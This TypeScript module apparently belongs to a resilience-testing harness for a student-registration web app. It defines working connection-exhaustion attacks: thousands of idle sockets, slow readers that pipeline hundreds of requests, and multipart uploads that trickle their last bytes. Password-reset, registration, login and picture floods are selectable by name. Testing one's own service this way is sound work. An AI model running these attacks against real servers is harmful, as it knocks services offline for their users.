import { createRegistrationFields, encodeForm } from '../browser.ts'
import { type Attack, encodeRequest, holdOpen } from './attack.ts'
import { forgotPassword, hostilePictures, registrationFlood, wrongLogins } from './floods.ts'

/** Half of them make one call and then keep the connection, the others never send anything. */
const idleSockets: Attack = {
  summary: '6,000 connections that stay open and say nothing',
  async prepare(target) {
    const call = encodeRequest({ method: 'GET', path: '/healthz' })
    let opened = 0
    return (tally, signal) =>
      holdOpen(
        target,
        {
          connections: 6_000,
          batchSize: 250,
          onConnect(socket) {
            socket.resume()
            if (opened++ % 2 === 0) socket.write(call)
          },
        },
        { tally, signal },
      )
  },
}

/** Half of them request a few pages, the others 300 at once; none reads a byte. */
const slowReaders: Attack = {
  summary: '500 connections that ask for pages, half of them for 300 at once, and read none',
  async prepare(target) {
    const call = encodeRequest({ method: 'GET', path: '/' })
    const few = Buffer.concat(Array.from({ length: 3 }, () => call))
    const many = Buffer.concat(Array.from({ length: 300 }, () => call))
    let opened = 0
    return (tally, signal) =>
      holdOpen(
        target,
        {
          connections: 500,
          batchSize: 50,
          onConnect(socket) {
            socket.pause()
            socket.write(opened++ % 2 === 0 ? few : many)
          },
        },
        { tally, signal },
      )
  },
}

const fileBytes = 5 * 1024 * 1024 - 1
const missingBytes = 64 * 1024
const dribbleEveryMs = 5_000

/**
 * Each sends two pictures except for the last 64 KB, of which one byte follows every five seconds.
 */
const halfSentUploads: Attack = {
  summary: '150 registrations with two 5 MB pictures that never end',
  async prepare(target) {
    const picture = Buffer.alloc(fileBytes, 'x')
    const { type, body } = await encodeForm(createRegistrationFields('half@example.com'), {
      aadharFront: picture,
      aadharBack: picture,
    })
    const whole = encodeRequest({ path: '/api/students/register', type, body })
    const partial = whole.subarray(0, whole.length - missingBytes)
    return (tally, signal) =>
      holdOpen(
        target,
        {
          connections: 150,
          batchSize: 10,
          onConnect(socket) {
            socket.write(partial)
            const dribbleTimer = setInterval(() => socket.write('x'), dribbleEveryMs)
            socket.once('close', () => clearInterval(dribbleTimer))
            socket.once('data', () => socket.destroy())
          },
        },
        { tally, signal },
      )
  },
}

/**
 * Everything that one visitor with a laptop and no account may try, by name on the command line.
 */
export const attacks: Readonly<Record<string, Attack>> = {
  'forgot-password': forgotPassword,
  'half-sent-uploads': halfSentUploads,
  'idle-sockets': idleSockets,
  'slow-readers': slowReaders,
  'hostile-pictures': hostilePictures,
  'registration-flood': registrationFlood,
  'wrong-logins': wrongLogins,
}
